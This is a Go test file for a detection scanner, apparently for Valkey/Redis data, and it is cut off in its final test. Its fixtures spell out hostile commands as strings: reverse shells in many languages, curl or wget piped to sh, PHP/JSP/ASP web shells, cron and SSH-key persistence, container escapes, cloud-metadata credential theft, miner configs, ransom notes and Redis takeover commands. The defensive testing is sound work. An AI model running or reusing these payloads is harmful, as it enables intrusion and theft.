package scan

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/valkeyfs/valkeyfs/keyspace"
)

// The texts are put together from parts, so that nothing that reads source
// files takes this one for what it describes.
const (
	curl    = "cu" + "rl"
	wget    = "wg" + "et"
	sh      = "s" + "h"
	pipe    = "| " + sh
	php     = "<" + "?php "
	jsp     = "<" + "%"
	address = "198.51.100.34"
)

// artefactCase is a text, the rule that finds it, and the technique that it is
// a trace of; without a rule nothing is to be found.
type artefactCase struct{ name, value, rule, technique string }

// testArtefacts runs cases as the value of a string and inside JSON.
func testArtefacts(t *testing.T, cases []artefactCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var got []*Finding
			for _, f := range findingsIn(t, "x", c.value) {
				if f.Category == Artefact {
					got = append(got, f)
				}
			}
			if c.rule == "" {
				if len(got) > 0 {
					t.Fatalf("found %s, want nothing", brief(got))
				}
				return
			}
			if !slices.ContainsFunc(got, func(f *Finding) bool { return f.Rule == c.rule && f.Technique == c.technique }) {
				t.Fatalf("found %s, want %s", brief(got), c.rule)
			}
		})
	}
}

func TestCronFamily(t *testing.T) {
	fetch := curl + " -fsSL http://" + address + "/init.sh " + pipe
	testArtefacts(t, []artefactCase{
		{"padded", "\n\n\n*/2 * * * * " + fetch + "\n\n", "cron-job", "T1053.003"},
		{"of a user", "\n*/2 * * * * root cd1 -fsSL http://" + address + "/b2f628/init.sh|" + sh + "\n", "cron-job", "T1053.003"},
		{"lynx", "\n\n\n* * * * * lynx -source transfer.sh/abc/x.cmd " + pipe + "\n\n", "cron-job", "T1053.003"},
		{"in a hash of settings", "0 3 * * * " + wget + " -qO- http://" + address + "/a|" + sh, "cron-job", "T1053.003"},
		{"at boot", "\n@reboot /dev/shm/.x/run >/dev/null 2>&1\n", "cron-job", "T1053.003"},
		{"a path between breaks", "\n\n* * * * * root /usr/local/bin/pnscan\n\n", "cron-job", "T1053.003"},
		{"between tabs", "\n*/2\t*\t*\t*\t*\t" + curl + "\t-k\thttp://" + address + "/x\t|\t" + sh + "\n", "cron-job", "T1053.003"},
		{"at boot, behind a tab", "\n@reboot\t" + fetch + "\n", "cron-job", "T1053.003"},
		{"encoded", "\n*/5 * * * * root echo " + base64.StdEncoding.EncodeToString([]byte(fetch)) + "|base" + "64 -d|ba" + sh + "\n", "cron-job", "T1053.003"},

		{"schedule in prose", "run */5 * * * * in the docs sandbox", "", ""},
		{"schedule alone", "*/5 * * * *", "", ""},
		{"schedule in JSON", `{"cron": "*/5 * * * *", "task": "report"}`, "", ""},
		{"manual", "see man 5 crontab for the five time fields", "", ""},
		{"an application's own", "*/10 * * * * /usr/bin/php /srv/app/artisan schedule:run", "", ""},
		{"with a health check", "0 3 * * * " + curl + " -fsS -m 10 --retry 5 https://hc.synthetic.test/ping/7f3c >/dev/null", "", ""},
		{"markdown", "* * * a list * * * of stars\n* * * * * that is no table", "", ""},
		{"a table with tabs", "*\t*\tname\tvalue\n@daily\tbackup of the archive", "", ""},
	})
}

func TestSSHKeyFamily(t *testing.T) {
	rsa := "ssh-" + "rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQ" + random("rsa", 180, alnumAlphabet) + " root@kali"
	ed := "ssh-" + "ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + random("e", 43, alnumAlphabet) + " x"
	testArtefacts(t, []artefactCase{
		{"padded", "\n\n\n\n" + rsa + "\n\n\n\n", "authorized-keys", "T1098.004"},
		{"another kind", "\r\n\r\n" + ed + "\r\n", "authorized-keys", "T1098.004"},
		{"with options", "\n\n\nno-pty,command=\"/bin/x\" " + rsa + "\n\n", "authorized-keys", "T1098.004"},
		{"kept by an application", rsa, "", ""},
		{"with a line break behind it", ed + "\n", "", ""},
		{"in JSON", `{"ssh_key": "` + ed + `"}`, "", ""},
		{"in a text", "\n\nAdd this key:\n" + rsa + "\n", "", ""},
		{"no key", "\n\nssh-" + "rsa AAAAsomething\n\n", "", ""},
	})
}

func TestShellFamilies(t *testing.T) {
	payload := "import socket,os;s=socket.socket();s.connect(('" + address + "',4444));[os." + "dup2(s.fileno(),i) for i in (0,1,2)]"
	encoded := base64.StdEncoding.EncodeToString([]byte(payload))
	testArtefacts(t, []artefactCase{
		{"pipe", curl + " -fsSL http://" + address + "/i.sh " + pipe, "pipe-to-shell", "T1059.004"},
		{"pipe to a path", wget + " -q -O - http://" + address + "/i.sh|/bin/ba" + sh, "pipe-to-shell", "T1059.004"},
		{"pipe to python", "cd /tmp; " + curl + " http://" + address + "/x.py | python3 -", "pipe-to-shell", "T1059.004"},
		{"pipe by a renamed program", "\ncdz -k https://a.synthetic.test/x.sh|ba" + sh + "\n", "pipe-to-shell", "T1059.004"},
		{"pipe that hides", "nohup " + curl + " -s https://a.synthetic.test/x.sh | ba" + sh + " >/dev/null 2>&1 &", "pipe-to-shell", "T1059.004"},
		{"substitution", "ba" + sh + " <(" + curl + " -s http://" + address + "/x.sh)", "pipe-to-shell", "T1059.004"},
		{"command string", sh + " -c \"$(" + wget + " -qO- http://" + address + "/x.sh)\"", "pipe-to-shell", "T1059.004"},
		{"in JSON", `{"cmd": "` + curl + ` http://` + address + `/x ` + pipe + `"}`, "pipe-to-shell", "T1059.004"},
		{"download", wget + " http://" + address + "/x -O /tmp/x; chm" + "od +x /tmp/x; /tmp/x", "download-and-run", "T1105"},
		{"download to a hidden file", curl + " -s http://" + address + "/x -o /tmp/.a && " + sh + " /tmp/.a", "download-and-run", "T1105"},
		{"encoded", "echo " + encoded + "|base" + "64 -d|python3", "encoded-command", "T1027.010"},
		{"what it encodes", "echo " + encoded + "|base" + "64 -d|python3", "reverse-shell", "T1059.004"},
		{"encoded in python", "python -c \"exec(__import__('base64').b64" + "decode('" + encoded + "'))\"", "encoded-command", "T1027.010"},

		{"dev tcp", "ba" + sh + " -i >& /dev" + "/tcp/" + address + "/4444 0>&1", "reverse-shell", "T1059.004"},
		{"exec", "exec 5<>/dev" + "/tcp/evil.synthetic.test/443;cat <&5", "reverse-shell", "T1059.004"},
		{"netcat", "nc" + " -e /bin/" + sh + " " + address + " 9001", "reverse-shell", "T1059.004"},
		{"netcat, the other way round", "nc" + " " + address + " 9001 -e /bin/ba" + sh, "reverse-shell", "T1059.004"},
		{"fifo", "rm /tmp/f;mk" + "fifo /tmp/f;cat /tmp/f|/bin/" + sh + " -i 2>&1|nc " + address + " 9001 >/tmp/f", "reverse-shell", "T1059.004"},
		{"python", payload, "reverse-shell", "T1059.004"},
		{"pty", "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"" + address + "\",1));pty." + "spawn(\"" + sh + "\")'", "reverse-shell", "T1059.004"},
		{"perl", "perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(9001,inet_aton(\"x\")));open(STD" + "IN,\">&S\");exec(\"/bin/" + sh + " -i\")'", "reverse-shell", "T1059.004"},
		{"socat", "so" + "cat TCP:" + address + ":9001 EXEC:/bin/ba" + sh, "reverse-shell", "T1059.004"},
		{"powershell", "$c = New-Object System.Net.Sock" + "ets.TCPClient('" + address + "',4242);$s = $c.GetStream()", "reverse-shell", "T1059.004"},
		{"awk", "awk 'BEGIN{s=\"/inet" + "/tcp/0/" + address + "/9001\";while(s|&getline c)print c}'", "reverse-shell", "T1059.004"},

		{"download in a directory", "cd /tmp; rm -rf *; " + wget + " http://" + address + "/mips; chm" + "od 777 mips; ./mips", "download-and-run", "T1105"},
		{"script", wget + " http://" + address + "/a.sh; " + sh + " a.sh; rm a.sh", "download-and-run", "T1105"},
		{"script by tftp", "tftp" + " -g -r x.sh " + address + "; " + sh + " x.sh", "download-and-run", "T1105"},
		{"program of a line", "python3 -c 'import urllib.request as u;ex" + "ec(u.url" + "open(\"http://" + address + "/s.py\").read())'", "pipe-to-shell", "T1059"},
		{"program of a line of PHP", "php -r 'ev" + "al(file_get_" + "contents(\"http://" + address + "/x\"));'", "pipe-to-shell", "T1059"},
		{"braces", "ba" + sh + " -c {echo," + encoded + "}|{base" + "64,-d}|{ba" + sh + ",-i}", "encoded-command", "T1027.010"},
		{"hex", "echo 6375726c20687474703a2f2f782f79 | xx" + "d -r -p | ba" + sh, "encoded-command", "T1027.010"},
		{"powershell in base64", "powershell -nop -w hidden -e JAB" + random("ps", 44, alnumAlphabet) + "==", "encoded-command", "T1027.010"},
		{"zsh", "zsh -c 'zmodload zsh/net" + "/tcp && zt" + "cp " + address + " 9001'", "reverse-shell", "T1059.004"},
		{"go", "c,_:=net.Di" + "al(\"tcp\",\"" + address + ":9001\");cmd:=exec.Com" + "mand(\"/bin/sh\")", "reverse-shell", "T1059.004"},
		{"node", "var net=require(\"net\"),cp=require(\"child_" + "process\");var c=new net.Soc" + "ket();c.connect(9001,\"" + address + "\")", "reverse-shell", "T1059.004"},
		{"sourced", ". <(" + curl + " -s http://" + address + "/x)", "pipe-to-shell", "T1059.004"},
		{"netcat, the shell last", "busybox nc " + address + " 4444 -e " + sh, "reverse-shell", "T1059.004"},

		{"library that fetches", "def load(u):\n    return json.loads(urlopen(u).read())", "", ""},
		{"packed library", "var a=require(\"http\");x.exec(b);" + strings.Repeat("var u='https://a.test/';f(g);", 40), "", ""},
		{"script of a build", "make && " + sh + " build.sh", "", ""},
		{"script that was fetched from a published place", wget + " https://get.synthetic.test/a.sh; " + sh + " b.sh", "", ""},
		{"a build's own file", "make -C /tmp/b && " + sh + " /tmp/b/run", "", ""},
		{"another file", curl + " -s https://get.synthetic.test/x -o /tmp/.a && " + sh + " /tmp/.b", "", ""},
		{"installation guide", "use " + curl + " -fsSL https://get.synthetic.test/install.sh to install", "", ""},
		{"installation guide with a pipe", "To install, run " + curl + " -fsSL https://get.synthetic.test/install.sh " + pipe + " and follow the steps", "", ""},
		{"installation command in JSON", `{"install": "` + curl + ` -fsSL https://get.synthetic.test/install.sh ` + pipe + `"}`, "", ""},
		{"address in a sentence with a pipe", "Please fetch http://" + address + "/x and then | sh it is", "", ""},
		{"a shell in a sentence", "pipe the output to | shuf or | basho", "", ""},
		{"table", "| sh | bash | zsh |\n|----|------|-----|", "", ""},
		{"about dev tcp", "The path /dev" + "/tcp/host/port is a feature of bash", "", ""},
		{"decode a file", "base" + "64 -d cert.b64 > cert.der", "", ""},
		{"build", "RUN " + curl + " -Lo /usr/local/bin/kind https://kind.synthetic.test/kind && chm" + "od +x /usr/local/bin/kind", "", ""},
		{"netcat in prose", "use nc to test ports, the -e option is gone", "", ""},
	})
}

func TestHostFamily(t *testing.T) {
	testArtefacts(t, []artefactCase{
		{"account", "\n* * * * * root user" + "add -o -u 0 -g 0 -M -d /root -s /bin/bash h\n", "cron-job", "T1053.003"},
		{"account alone", "user" + "add -o -u 0 svc; echo svc:Passw0rd | chpass" + "wd", "account-creation", "T1136.001"},
		{"password", "echo 'root:abc123' | chpass" + "wd", "account-creation", "T1136.001"},
		{"key", "mkdir -p ~/.ssh; echo ssh-rsa AAAA >> ~/.ssh/author" + "ized_keys", "privileged-file-write", "T1098.004"},
		{"rights", "echo 'www ALL=(ALL) NOPASS" + "WD:ALL' >> /etc/sudo" + "ers", "privileged-file-write", "T1548.003"},
		{"preload", "echo /usr/lib/libx.so > /etc/ld.so" + ".preload", "privileged-file-write", "T1574.006"},
		{"table", "echo '* * * * * root /opt/x' >> /etc/cron" + ".d/x", "privileged-file-write", "T1053.003"},
		{"immutable", "chat" + "tr +i /root/.ssh/authorized_keys", "defence-evasion", "T1222.002"},
		{"off", wget + " http://" + address + "/a -O /var/tmp/a; chmod 777 /var/tmp/a\nseten" + "force 0\niptables -F", "defence-evasion", "T1562.001"},

		{"preload of a program", "LD_PRE" + "LOAD=/tmp/.x.so /usr/bin/top", "hidden-program", "T1574.006"},
		{"unit of systemd", "[Service]\nExec" + "Start=/dev/shm/.x\nRestart=always\n", "hidden-program", "T1543.002"},
		{"shell of root", "cp /bin/bash /tmp/.b; chm" + "od 4755 /tmp/.b", "privilege-escalation", "T1548.001"},
		{"out of a container", "docker run -v" + " /:/mnt --rm -it alpine chroot /mnt sh", "privilege-escalation", "T1611"},
		{"search for servers", "mass" + "can 0.0.0.0/0 -p6379 --rate 100000", "network-scan", "T1046"},
		{"search for servers, zgrab2", "zgr" + "ab2 redis --port=6379 -f ips", "network-scan", "T1046"},
		{"out of a container by its init", "nsen" + "ter --target 1 --mount --pid -- bash", "privilege-escalation", "T1611"},
		{"out of a container by a group", "echo /cmd > /tmp/cgrp/release" + "_agent", "privilege-escalation", "T1611"},
		{"hidden, in a script", "#!/bin/sh\n/var/tmp/.x/run &\nexit 0\n", "hidden-program", "T1564.001"},
		{"table that is added to", "(crontab -l; echo \"* * * * * /opt/x\") | cron" + "tab -", "privileged-file-write", "T1053.003"},
		{"credentials of a host", curl + " http://169.254." + "169.254/latest/meta-data/iam/security-credentials/ | " + curl + " -F f=@- http://" + address, "metadata-theft", "T1552.005"},
		{"account of root with a hash", "\nsys:$6$" + random("salt", 8, alnumAlphabet) + "$" + random("sha", 86, alnumAlphabet) + ":0:0:root:/root:/bin/bash\n", "privileged-account-line", "T1136.001"},

		{"root's own line", "root:x:0:0:root:/root:/bin/bash", "", ""},
		{"service", "[Service]\nExecStart=/usr/bin/app\n", "", ""},
		{"rights of a program", "chmod 4755 /usr/bin/sudo", "", ""},
		{"volume of a container", "docker run -v /data:/data app", "", ""},
		{"about a scan", "masscan found 6379 open", "", ""},
		{"list of files", "/tmp/.X11-unix/X0\n/tmp/.ICE-unix/12\n", "", ""},
		{"about groups", "notify_on_release runs the program named in /sys/fs/cgroup/release_agent", "", ""},
		{"how to read the metadata", curl + " http://169.254.169.254/latest/meta-data/iam/security-credentials/role", "", ""},
		{"how to add a user", "use useradd -m to create users", "", ""},
		{"adduser in a Dockerfile", "RUN adduser --disabled-login app", "", ""},
		{"a file's name", "keys are read from ~/.ssh/authorized_keys", "", ""},
		{"backup of a file", "the script copies /etc/passwd to the archive", "", ""},
		{"how to switch off", "run setenforce 0 to make it permissive", "", ""},
		{"about chattr", "chattr +i makes a file immutable", "", ""},
	})
}

func TestWebShellFamily(t *testing.T) {
	testArtefacts(t, []artefactCase{
		{"eval", "\n\n" + php + "@ev" + "al($_POST['c']);?" + ">\n\n", "web-shell", "T1505.003"},
		{"short tag", "<" + "?=sys" + "tem($_GET[0])?" + ">", "web-shell", "T1505.003"},
		{"in steps", php + "ass" + "ert(base64_decode($_REQUEST[\"x\"])); ?" + ">", "web-shell", "T1505.003"},
		{"function by name", php + "$_G" + "ET['f']($_POST['a']);", "web-shell", "T1505.003"},
		{"packed", php + "ev" + "al(gzin" + "flate(base64_decode('7b0HYBx'))); ?" + ">", "web-shell", "T1505.003"},
		{"writes", php + "file_put" + "_contents($_GET['n'], $_POST['d']);", "web-shell", "T1505.003"},
		{"by a variable", php + "$c=base64" + "_decode($_POST['x']); @ev" + "al($c);", "web-shell", "T1505.003"},
		{"backticks", php + "echo `$_G" + "ET[c]`; ?" + ">", "web-shell", "T1505.003"},
		{"put together", php + "$a=\"as\".\"sert\";$" + "a($_POST[\"x\"]);?" + ">", "web-shell", "T1505.003"},
		{"that decrypts", php + "$p=file_get_contents(\"php://" + "input\");$p=openssl_" + "decrypt($p,\"AES128\",$k);class C{function f($p){ev" + "al($p.\"\");}} ?" + ">", "web-shell", "T1505.003"},
		{"that decrypts at once", php + "$p=file_get_contents(\"php://" + "input\");ev" + "al(openssl_" + "decrypt($p,\"AES128\",$k)); ?" + ">", "web-shell", "T1505.003"},
		{"python", "#!/usr/bin/python\nprint(os.po" + "pen(cgi.Field" + "Storage().getvalue(\"c\")).read())", "web-shell", "T1505.003"},
		{"node", "require(\"child_" + "process\").exec(require(\"url\").parse(q.url,true).que" + "ry.cmd,f)", "web-shell", "T1505.003"},
		{"perl", "use CGI;my $q=new CGI;sys" + "tem($q->param(\"cmd\"));", "web-shell", "T1505.003"},
		{"coldfusion", "<cf" + "execute name=\"cmd.exe\" arguments=\"/c #url.c#\" variable=\"o\"></cfexecute>", "web-shell", "T1505.003"},
		{"jsp that writes", jsp + "new java.io.FileOutput" + "Stream(request.getParameter(\"f\"))%" + ">", "web-shell", "T1505.003"},
		{"jsp", jsp + "@page import=\"java.util.*\"%" + ">" + jsp + "Runtime.getRun" + "time().exec(request.getParameter(\"i\"));%" + ">", "web-shell", "T1505.003"},
		{"asp", jsp + "ev" + "al request(\"x\")%" + ">", "web-shell", "T1505.003"},
		{"aspx", jsp + "@ Page Language=\"Jscript\"%" + ">" + jsp + "ev" + "al(Request.Item[\"z\"],\"unsafe\");%" + ">", "web-shell", "T1505.003"},

		{"page", php + "echo \"hello\"; ?" + ">", "", ""},
		{"form", php + "echo htmlspecialchars($_POST['name']); ?" + ">", "", ""},
		{"query", php + "$db->exec('x'); $n = $_GET['n']; ?" + ">", "", ""},
		{"prepared", php + "$stmt->execute([$_POST['a']]); ?" + ">", "", ""},
		{"kept in a variable", php + "$n = $_POST['n']; system('uptime'); echo $n; ?" + ">", "", ""},
		{"about it", "never pass $_GET[x] to eval()", "", ""},
		{"program without a request", "print(os.popen(\"uptime\").read())", "", ""},
		{"module that is imported", "import child_process from 'child_process'; const q = req.query.page", "", ""},
		{"call before a form", "os.system(\"clear\"); form = request.form", "", ""},
		{"program with a name", "subprocess.run([\"git\", \"log\", request.args.get(\"branch\")])", "", ""},
		{"module that runs", "require('child_process').exec(req.query.c, (e, o) => res.send(o))", "web-shell", "T1505.003"},
		{"program from a request", "subprocess.check_output(request.args.get('c'), shell=True)", "web-shell", "T1505.003"},
		{"page that decodes", php + "$x = base64_decode($_POST['x']); echo strlen($x); ?" + ">", "", ""},
		{"method by a variable", php + "$this->validate($_POST['a']); ?" + ">", "", ""},
		{"java source", "Runtime.getRun" + "time().exec(\"ls\");", "", ""},
	})
}

func TestMinerFamily(t *testing.T) {
	testArtefacts(t, []artefactCase{
		{"pool", "-o stra" + "tum+tcp://pool.synthetic.test:3333 -u 4A", "mining-pool", "T1496.001"},
		{"command", "/tmp/.x/xm" + "rig -o 198.51.100.7:443 -u wallet -p x -k", "miner", "T1496.001"},
		{"configuration", `{"donate-` + `level": 1, "pools": [{"url": "198.51.100.7:80", "user": "4A"}]}`, "miner", "T1496.001"},
		{"configuration of another name", `{"autosave": true, "pools": [{"url": "198.51.100.7:80", "user": "4` + random("xmr", 94, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") + `"}]}`, "miner", "T1496.001"},
		{"hidden command", "nohup ./kthread -a rx" + "/0 -o 198.51.100.7:3333 -u 8" + random("xmr2", 94, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") + " -p x", "miner", "T1496.001"},
		{"pools of workers", `{"pools": [{"url": "http://a/", "user": "web"}]}`, "", ""},
		{"about it", "xmrig is a miner of Monero", "", ""},
		{"article", "Sites were found to run xmrig -o in browsers, say researchers", "", ""},
		{"settings", `{"donate-level": 3, "name": "charity"}`, "", ""},
	})
}

func TestRansomFamily(t *testing.T) {
	// The addresses are those of BIP 173 and of the first block.
	bech := "bc1" + "qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
	base := "1A1zP1eP5QGefi2D" + "MPTfTL5SLmv7DivfNa"
	testArtefacts(t, []artefactCase{
		{"sum", "Your data is backed up. Send 0.05 BTC to the address below and write to restore@onion.example", "ransom-note", "T1485"},
		{"bech32", "All your databases were dumped. To recover them pay bitcoin to " + bech, "ransom-note", "T1485"},
		{"base58", "your DB was deleted, pay in bitcoin to " + base + " to restore it", "ransom-note", "T1485"},
		{"in JSON", `{"note":"Your files are encrypted. You must pay 300 USDT. Contact us at x.onion or lose all your data"}`, "ransom-note", "T1485"},
		{"German", "Ihre Datenbank wurde gesichert und gelöscht. Senden Sie 0,05 BTC an " + bech, "ransom-note", "T1485"},
		{"Spanish", "Sus datos han sido cifrados. Para recuperarlos envíe 0.03 bitcoin a " + base, "ransom-note", "T1485"},
		{"Russian", "Ваша база данных удалена. Для восстановления отправьте 0.05 BTC на " + bech, "ransom-note", "T1485"},
		{"Chinese", "您的数据库已被备份并删除，请支付0.05 BTC到" + bech, "ransom-note", "T1485"},
		{"Chinese, the coin by its name", "您的数据库已被备份并删除。请支付 0.015 比特币 以恢复数据", "ransom-note", "T1485"},
		{"Russian, in a sentence of its own", "Все ваши данные сохранены на нашем сервере. Отправьте 0.01 BTC чтобы восстановить базу", "ransom-note", "T1485"},
		{"German, pay", "Alle Ihre Daten wurden gesichert und gelöscht. Zahlen Sie 0.02 Bitcoin", "ransom-note", "T1485"},
		{"Ether", "Your DB is ours now. Pay 0.5 ETH or it will be sold in 48h", "ransom-note", "T1485"},
		{"dollars", "Database is gone. We have a copy. Pay $500 in bitcoin. Contact us on telegram", "ransom-note", "T1485"},
		{"host of Tor", "Your files were encrypted and your data was exfiltrated. Visit http://" + base32Of("onion", 56) + ".onion to negotiate the ransom", "ransom-note", "T1485"},
		{"shop in German", "Ihre Daten sind sicher. Bezahlen Sie 0,05 BTC für die Bestellung", "", ""},
		{"price", "Pay 0.05 BTC for your order and send the receipt", "", ""},
		{"price in Ether", "Send 0.5 ETH to mint, your key is recorded", "", ""},
		{"news", "A ransom of bitcoin was asked of the hospital", "", ""},
		{"policy", "Your data is encrypted and backed up. Contact us by e-mail.", "", ""},
	})
	bad := []byte(bech)
	bad[20] ^= 1
	if !isBech32([]byte(bech)) || isBech32(bad) || !isBase58Check([]byte(base)) || isBase58Check([]byte(base[:20]+"1"+base[21:])) {
		t.Error("checksums of addresses are not checked")
	}
}

func TestLuaFamily(t *testing.T) {
	load := "local io_l = package.load" + "lib(\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\", \"luaopen_io\"); local io = io_l(); return io.po" + "pen(\"id\"):read(\"*a\")"
	testArtefacts(t, []artefactCase{
		{"loadlib", load, "lua-sandbox-escape", "T1059.011"},
		{"popen in a script", "local f = io.po" + "pen('id'); redis.call('set', KEYS[1], f:read())", "lua-sandbox-escape", "T1059.011"},
		{"shared metatable", "getmeta" + "table(\"\").__index = function(_, key) redis.call('acl') end", "lua-sandbox-escape", "T1059.011"},
		{"bytecode", "loadstring('\x1bL" + "ua\x51\x00\x01\x04')()", "lua-sandbox-escape", "T1059.011"},
		{"script", "return redis.call('GET', KEYS[1])", "", ""},
		{"other programs' Lua", "local f = io.popen('ls')", "", ""},
		{"about it", "package.loadlib was removed from the sandbox", "", ""},
	})
	code := "#!lua name=lib\nredis.register_function('x', function() return os.exec" + "ute('id') end)"
	found, _ := scanAll(t, newTestScanner(t), []keyspace.Event{{Kind: keyspace.Function, DB: -1, Key: []byte("lib"), Value: []byte(code), Pos: keyspace.Pos{Inner: -1}}})
	if len(found) != 1 || found[0].Rule != "lua-sandbox-escape" || found[0].Where != WhereFunction || found[0].Key != "lib" {
		t.Errorf("function: found %s", brief(found))
	}
}

// elf makes the head of an ELF file of a type, and a body.
func elf(kind uint16, body string) string {
	h := append([]byte("\x7f"+"ELF\x02\x01\x01"), make([]byte, 9)...)
	h = binary.LittleEndian.AppendUint16(h, kind)
	h = binary.LittleEndian.AppendUint16(h, 62)
	return string(h) + strings.Repeat("\x00\x11\x80\xfe", 30) + body
}

func TestExecutableFamily(t *testing.T) {
	testArtefacts(t, []artefactCase{
		{"module", elf(3, "\x00Redis"+"Module_OnLoad\x00system.exec\x00"), "module-payload", "T1129"},
		{"module of Valkey", elf(3, "\x00Valkey"+"Module_OnLoad\x00"), "module-payload", "T1129"},
		{"program", elf(2, "x"), "executable-payload", "T1105"},
		{"base64", base64.StdEncoding.EncodeToString([]byte(elf(2, "x"))), "executable-payload", "T1105"},
		{"windows without its stub", "MZ\x90\x00" + strings.Repeat("\x00", 56) + "\x40\x00\x00\x00PE\x00\x00\x64\x86" + strings.Repeat("\x01", 60), "executable-payload", "T1105"},
		{"apple", "\xcf\xfa\xed\xfe\x0c\x00\x00\x01" + strings.Repeat("\x02", 60), "executable-payload", "T1105"},
		{"letters", "MZ\x90 is how programs of Windows begin, and this is a text of some length that is none", "", ""},
		{"windows", "MZ\x90\x00" + strings.Repeat("\x00", 74) + "This program can" + "not be run in DOS mode.\r\r\n$", "executable-payload", "T1105"},
		{"symbol in a source", "int Redis" + "Module_OnLoad(RedisModuleCtx *ctx)", "", ""},
		{"magic alone", "\x7f" + "ELF", "", ""},
		{"wrong type", elf(9, ""), "", ""},
	})
}

func TestTakeoverFamily(t *testing.T) {
	testArtefacts(t, []artefactCase{
		{"cron", "config set dir /etc/cron.d", "config-takeover", "T1053.003"},
		{"ssh", "port 6379\ndir /root/.ssh\ndbfilename authorized_keys", "config-takeover", "T1098.004"},
		{"web", "CONFIG SET dbfilename \"x.php\"", "config-takeover", "T1505.003"},
		{"module", "12:M 10 Oct 2025 10:00:00.000 * Module 'system' loaded from /tmp/exp.so", "module-load", "T1129"},
		{"directive", "loadmodule /dev/shm/red2.so", "module-load", "T1129"},
		{"history", "127.0.0.1:6379> MODULE LOAD /tmp/exp.so", "module-load", "T1129"},
		{"replication id", "+FULLRESYNC " + strings.Repeat("Z", 40) + " 1", "rogue-replication", "T1129"},
		{"by a client", "redis-cli -h 10.0.0.7 MODULE LOAD /dev/shm/.x/system.so", "module-load", "T1129"},
		{"primary", "SLAVEOF 203.0.114.7 21000", "rogue-replication", "T1129"},
		{"primary at a usual port", "REPLICAOF 203.0.114.7 6380", "", ""},
		{"listing of Windows", "dir C:\\inetpub\\wwwroot", "", ""},
		{"snapshot of Windows", "config set dir C:\\inetpub\\wwwroot", "config-takeover", "T1505.003"},
		{"programs of Windows that start", "config set dir \"C:/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp\"", "config-takeover", "T1547.001"},
		{"backdoor", "system.exec \"id\"", "rogue-replication", "T1129"},

		{"ordinary settings", "dir /var/lib/valkey\ndbfilename dump.rdb\nloadmodule /usr/lib/redis/modules/redisbloom.so", "", ""},
		{"primary of one's own", "replicaof 10.0.0.7 6380", "", ""},
		{"primary at its port", "replicaof 203.0.114.7 6379", "", ""},
		{"no primary", "SLAVEOF NO ONE", "", ""},
		{"a sentence", "dir /etc/cron.d is where jobs are", "", ""},
		{"code", "System.exec(\"ls\"); shell.exec('ls')", "", ""},
		{"a long word", strings.Repeat("Z", 41), "", ""},
	})
}

// TestUnloggedCommands: commands in a log that no server writes.
func TestUnloggedCommands(t *testing.T) {
	command := func(op keyspace.Op, args ...string) keyspace.Event {
		e := keyspace.Event{Kind: keyspace.Command, Op: op, Index: int64(len(args)), Pos: keyspace.Pos{Source: "a.aof.1.incr.aof", Inner: -1}, Record: 31, Expire: keyspace.NoExpire}
		for _, a := range args {
			e.Args = append(e.Args, []byte(a))
		}
		return e
	}
	never := keyspace.OpNeverLogged
	events := []keyspace.Event{
		command(keyspace.OpNone, "SET", "k", "v"),
		command(never, "config", "SET", "dir", "/etc/cron.d"),
		command(never, "MODULE", "LOAD", "/tmp/exp.so"),
		command(never, "REPLICAOF", address, "6379"),
		command(never, "EVAL", "return 1", "0"),
		command(never, "GET", "k"),
		command(keyspace.OpNone, "system.exec", "id"),
	}
	found, _ := scanAll(t, newTestScanner(t), events)
	var got []string
	for _, f := range found {
		if f.Rule == unloggedCommand {
			if f.Where != WhereArgument || f.KeyType != "command" || f.DB != -1 || f.RecordOffset != 31 {
				t.Errorf("%s stands at %s of %s in database %d", f.Key, f.Where, f.KeyType, f.DB)
			}
			got = append(got, f.Key+" "+f.Severity.String()+" "+f.Technique)
		}
	}
	want := []string{"CONFIG critical T1053.003", "MODULE critical T1129", "REPLICAOF critical T1129", "EVAL critical T1059.011", "GET medium T1565.001", "SYSTEM.EXEC critical T1059.004"}
	if !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	old := command(never, "EVAL", "return 1", "0")
	old.Pos.Source = "appendonly.aof"
	if found, _ := scanAll(t, newTestScanner(t), []keyspace.Event{old}); len(found) > 0 {
		t.Errorf("a script in the log of a server that may be old: found %s", brief(found))
	}
}

// TestMisplacedSnapshot: where a snapshot lies can be the trace.
func TestMisplacedSnapshot(t *testing.T) {
	for path, technique := range map[string]string{
		"/var/spool/cron/root": "T1053.003", "img/etc/cron.d/ntp": "T1053.003", "/root/.ssh/authorized_keys": "T1098.004", "/var/www/html/x.php": "T1505.003", "/tmp/exp.so": "T1129",
		"/var/lib/redis/dump.rdb": "", "/srv/www/data/dump.rdb": "", "/var/lib/valkey/temp-12.rdb": "",
	} {
		events := []keyspace.Event{{Kind: keyspace.Header, Value: []byte("REDIS"), Pos: keyspace.Pos{Source: path, Inner: -1}, Expire: keyspace.NoExpire}}
		found, _ := scanAll(t, newTestScanner(t), events)
		if technique == "" && len(found) > 0 || technique != "" && (len(found) != 1 || found[0].Rule != misplacedSnapshot || found[0].Technique != technique) {
			t.Errorf("%s: found %s, want a trace of %q", path, brief(found), technique)
		}
	}
}

// TestArtefactsAreMasked: what a command holds is not shown.
func TestArtefactsAreMasked(t *testing.T) {
	s, err := New(Config{Workers: 1, IDKey: []byte("test")})
	if err != nil {
		t.Fatal(err)
	}
	value := "\n\n*/2 * * * * " + curl + " -fsSL http://" + address + "/init.sh " + pipe + "\n\n"
	found, _ := scanAll(t, s, stringKey("x", value))
	if len(found) != 1 || strings.Contains(found[0].Secret, address) || strings.HasSuffix(found[0].Secret, sh) {
		t.Errorf("found %s, shown or not at all", brief(found))
	}
}

// TestSecretsInArtefacts: a password in a hostile command is found beside it.
func TestSecretsInArtefacts(t *testing.T) {
	url := "postgres://svc_app:" + random("pw", 16, alnumAlphabet) + "@db1.internal:5432/app"
	found := findingsIn(t, "x", "\n* * * * * echo "+url+" | base"+"64 -d | "+sh+"\n")
